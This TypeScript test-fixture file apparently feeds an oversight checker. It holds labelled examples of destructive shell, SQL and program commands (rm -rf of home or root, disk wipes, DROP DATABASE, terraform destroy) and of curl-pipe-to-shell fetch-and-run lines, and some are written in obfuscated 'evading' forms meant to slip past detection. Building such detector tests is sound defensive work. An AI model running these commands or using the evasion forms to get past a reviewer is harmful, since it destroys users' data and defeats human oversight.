import type { OversightExample } from "./oversight_example.ts";

const ask = (about: string, path: string, text: string, evading = false): OversightExample => ({
  case: evading ? "evading" : "violating",
  about,
  head: { [path]: text },
  says: "ask",
});
const clean = (about: string, path: string, text: string): OversightExample => ({
  case: "clean",
  about,
  head: { [path]: text },
});
const sh = (body: string): string => `#!/bin/sh\n${body}\n`;

/** O1: commands, calls and statements that destroy beyond the project's own files. */
export const DESTRUCTIVE_EXAMPLES: readonly OversightExample[] = [
  ask("a script removes a home directory", "a.sh", sh('rm -rf "$HOME"')),
  ask("a script removes the data of a server", "a.sh", sh("sudo rm -r -f /var/lib/mysql")),
  ask("an unset variable makes it the root", "a.sh", sh('rm -rf "/$TARGET"')),
  ask("a recipe removes a home directory", "Makefile", "wipe:\n\t-rm -rf $(HOME)\n"),
  ask(
    "a package script removes everything",
    "package.json",
    '{"scripts":{"reset":"rm -rf / --no-preserve-root"}}',
  ),
  ask("a script deletes all below a folder", "a.sh", sh("find /srv -delete")),
  ask("a script writes over a disk", "a.sh", sh("dd if=/dev/zero of=/dev/nvme0n1 bs=1M")),
  ask("a script formats a disk", "a.sh", sh("mkfs.xfs -f /dev/sdb")),
  ask("a script drops a database", "a.sh", sh("dropdb --if-exists shop")),
  ask("a client is given a statement", "a.sh", sh("psql -c 'DROP DATABASE shop'")),
  ask("a client is given statements by its input", "a.sh", sh("psql shop <<EOF\nTRUNCATE orders;\nEOF")),
  ask("a script deletes claims of a cluster", "a.sh", sh("kubectl delete pvc --all -n production")),
  ask("a script removes a bucket", "a.sh", sh("aws s3 rb s3://orders --force")),
  ask(
    "CI destroys infrastructure",
    ".github/workflows/ci.yml",
    "on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: terraform destroy -auto-approve\n",
  ),
  ask("a script removes every volume", "a.sh", sh("docker volume rm $(docker volume ls -q)")),
  ask(
    "a program removes a home directory",
    "src/a.ts",
    'import { rm } from "node:fs/promises";\nimport { homedir } from "node:os";\nawait rm(homedir(), { recursive: true, force: true });\n',
  ),
  ask(
    "a program removes the home directory of its environment",
    "src/a.py",
    'import os, shutil\nshutil.rmtree(os.environ["HOME"])\n',
  ),
  ask(
    "a program removes the root",
    "a.go",
    'package a\n\nimport "os"\n\nfunc All() error { return os.RemoveAll("/") }\n',
  ),
  ask(
    "a program starts a client of databases",
    "src/a.rs",
    'fn main() {\n    std::process::Command::new("dropdb").args(["--force", "shop"]).status().unwrap();\n}\n',
  ),
  ask(
    "a program drops a table",
    "src/a.ts",
    'export const reset = (db: Db) => db.query("DROP TABLE invoices");\n',
  ),
  ask(
    "a program deletes every row",
    "src/a.py",
    'def forget(connection):\n    connection.execute("DELETE FROM positions;")\n',
  ),
  ask(
    "a program in Java truncates a table",
    "src/A.java",
    'class A { void a(java.sql.Statement s) throws Exception { s.execute("TRUNCATE TABLE orders"); } }\n',
  ),
  ask("by way of a variable", "a.sh", sh('root=$HOME\nall="$root/*"\nrm -fr $all'), true),
  ask("by a shell in a shell", "a.sh", sh(`bash -c 'sh -c "rm -rf /home"'`), true),
  ask("by eval", "a.sh", sh('eval "rm -rf ~/"'), true),
  ask("by the default of a variable", "a.sh", sh('rm --recursive "${DIR:-/}"'), true),
  ask("by another name of the root", "a.sh", sh("rm -rf //./"), true),
  ask(
    "by a constant of a program",
    "src/a.py",
    'import os, shutil\nALL = os.path.expanduser("~")\nshutil.rmtree(ALL)\n',
    true,
  ),
  ask(
    "by a command in a program",
    "src/a.js",
    'const { execSync } = require("child_process");\nfor (const b of all) execSync(`aws s3 rb s3://${b} --force`);\n',
    true,
  ),
  ask(
    "by words of a program",
    "src/a.py",
    'import subprocess\nsubprocess.run(["sudo", "rm", "-rf", "/etc"], check=True)\n',
    true,
  ),
  ask(
    "by a condition that every row meets",
    "src/a.ts",
    'export const gone = (db: Db) => db.query("DELETE FROM invoices WHERE 1 = 1");\n',
    true,
  ),
  clean(
    "old releases and logs of one program",
    "a.sh",
    sh("rm -rf /srv/shop/releases/old /var/log/shop/*.gz"),
  ),
  clean(
    "what a build makes",
    "Makefile",
    "clean:\n\trm -rf dist build target node_modules $(OUT) .cache coverage\n",
  ),
  clean(
    "a folder for a while",
    "a.sh",
    sh('tmp=$(mktemp -d)\ntrap \'rm -rf "$tmp"\' EXIT\nrm -rf /tmp/work "$tmp"/*'),
  ),
  clean("caches", "a.sh", sh('rm -rf ~/.cache/tool "$HOME/.npm/_cacache" ~/.tool')),
  clean(
    "a package list in an image",
    "Dockerfile",
    "FROM x\nRUN apt-get update && rm -rf /var/lib/apt/lists/* /usr/share/doc /root/.cache\n",
  ),
  clean(
    "room on a runner of CI",
    ".github/workflows/ci.yml",
    "on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: sudo rm -rf /usr/share/dotnet /opt/ghc\n",
  ),
  clean("a program's own folder goes", "a.sh", sh("rm -rf /usr/local/lib/tool /opt/tool")),
  clean("a text that speaks of it", "a.sh", sh('echo "never run rm -rf / or dropdb shop"\n# rm -rf /')),
  clean(
    "rows that a condition names",
    "src/a.py",
    'def gone(c, x):\n    c.execute("DELETE FROM positions WHERE id = ?", (x,))\n',
  ),
  clean(
    "a table that is made anew",
    "src/a.py",
    'def again(c):\n    c.execute("DROP TABLE IF EXISTS positions")\n    c.execute("CREATE TABLE positions (id INTEGER)")\n',
  ),
  clean(
    "a table that passes away",
    "src/a.ts",
    'export const done = (db: Db) => db.query("DROP TABLE tmp_import");\n',
  ),
  clean(
    "a database of tests",
    "a.sh",
    sh(
      "dropdb --if-exists shop_test\nkubectl delete namespace ci-7 --wait\nterraform destroy -auto-approve -var-file=preview.tfvars",
    ),
  ),
  clean(
    "a program's own folder",
    "src/a.ts",
    'import { rm } from "node:fs/promises";\nimport { homedir, tmpdir } from "node:os";\nimport { join } from "node:path";\nawait rm(join(tmpdir(), "a"), { recursive: true });\nawait rm(join(homedir(), ".tool"), { recursive: true });\nexport const gone = (dir: string) => rm(dir, { recursive: true });\n',
  ),
  clean(
    "a plan that asks",
    "a.sh",
    sh(
      "terraform destroy\nkubectl delete -f web.yaml\nkubectl delete pod web --grace-period=0\ndocker compose down",
    ),
  ),
  clean("a test", "tests/a.sh", sh("rm -rf /srv/data")),
  clean(
    "a step back of a migration",
    "db/migrations/1_a.ts",
    'export const down = (db: Db) => db.query("DROP TABLE invoices");\n',
  ),
  {
    case: "clean",
    about: "what was there before",
    base: { "a.sh": sh("rm -rf /srv/data") },
    head: { "b.sh": sh("set -e\nrm -rf /srv/data"), "a.sh": sh(":") },
  },
  {
    case: "clean",
    about: "what the spec wants gone",
    head: { "a.sh": sh("rm -rf /srv/data") },
    intent: { type: "DESTROY", scope: ["**"], removes: ["/srv/data"] },
    says: "note",
  },
];

/** D2: code that is fetched and run at once, and builds that link or load what lies elsewhere. */
export const FETCHED_EXAMPLES: readonly OversightExample[] = [
  ask(
    "a script runs what it fetches",
    "install.sh",
    sh("curl -fsSL https://example.org/latest.sh | sudo sh"),
  ),
  ask(
    "an image runs what it fetches",
    "Dockerfile",
    "FROM x\nRUN wget -qO- https://example.org/a.sh | bash -s -- -y\n",
  ),
  ask(
    "CI runs what it fetches",
    ".github/workflows/ci.yml",
    "on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl https://example.org/a.py | python3\n",
  ),
  ask("a recipe runs what it fetches", "Makefile", "up:\n\tcurl -s https://example.org/a | bash\n"),
  ask(
    "a directive of Go fetches",
    "gen.go",
    'package a\n\n//go:generate sh -c "curl -s https://example.org/gen.sh | sh"\n',
  ),
  ask(
    "a flag of cgo links what lies elsewhere",
    "a.go",
    'package a\n\n// #cgo LDFLAGS: -L/tmp -lhelper\nimport "C"\n',
  ),
  ask(
    "a flag of cgo loads a plugin",
    "a.go",
    'package a\n\n/*\n#cgo linux CFLAGS: -fplugin=./x.so\n*/\nimport "C"\n',
  ),
  ask(
    "a module of an address that moves",
    "src/a.ts",
    'import { a } from "https://raw.githubusercontent.com/someone/a/main/mod.ts";\na();\n',
  ),
  ask(
    "a module that is imported when it runs",
    "src/a.ts",
    'await import("https://code.example.org/mod.js");\n',
    true,
  ),
  clean(
    "modules of a registry, of a version, of a commit",
    "src/a.ts",
    'import "https://deno.land/std/a.ts";\nimport "https://code.example.org/a@1.2.3/mod.ts";\nexport * from "https://raw.githubusercontent.com/someone/a/0123456789abcdef0123456789abcdef01234567/mod.ts";\nawait fetch("https://code.example.org/mod.js");\n',
  ),
  ask("by a substitution", "a.sh", sh('sh -c "$(curl -fsSL https://example.org/a.sh)"'), true),
  ask("by a process", "a.sh", sh("bash <(curl -s https://example.org/a.sh)"), true),
  ask("by way of a filter", "a.sh", sh("curl -s https://example.org/a.gz | gunzip | bash"), true),
  ask("by eval", "a.sh", sh('eval "$(wget -qO- https://example.org/a)"'), true),
  ask(
    "by a program",
    "src/a.js",
    'require("child_process").execSync("curl https://example.org/a | sh");\n',
    true,
  ),
  clean(
    "the makers' own installer",
    "Dockerfile",
    "FROM x\nRUN curl https://sh.rustup.rs -sSf | sh -s -- -y\n",
  ),
  clean(
    "data that is read",
    "a.sh",
    sh(
      "curl -s https://example.org/a.json | jq .x\ncurl -s https://example.org/a.json | python3 -m json.tool",
    ),
  ),
  clean("a server of this machine", "a.sh", sh("curl -s http://localhost:8080/boot | sh")),
  clean(
    "a file whose digest is compared",
    "a.sh",
    sh("curl -fo a https://example.org/a\necho 'x  a' | sha256sum -c\nsh a"),
  ),
  clean(
    "libraries of the system",
    "a.go",
    'package a\n\n// #cgo LDFLAGS: -L${SRCDIR}/lib -lz -Wl,-rpath,/usr/lib\nimport "C"\n\n//go:generate stringer -type=Kind\n',
  ),
];
